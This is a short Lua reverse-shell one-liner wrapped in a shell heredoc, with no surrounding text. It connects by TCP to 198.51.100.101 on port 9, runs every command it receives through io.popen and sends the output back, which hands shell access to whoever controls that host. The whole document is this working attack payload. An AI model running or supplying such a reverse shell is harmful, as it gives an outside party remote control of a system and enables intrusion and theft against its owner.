lua - <<'L'
local s = require('socket').tcp()
s:connect('198.51.100.101', 9)
while true do local c = s:receive() local f = io.popen(c) s:send(f:read('*a')) end
L
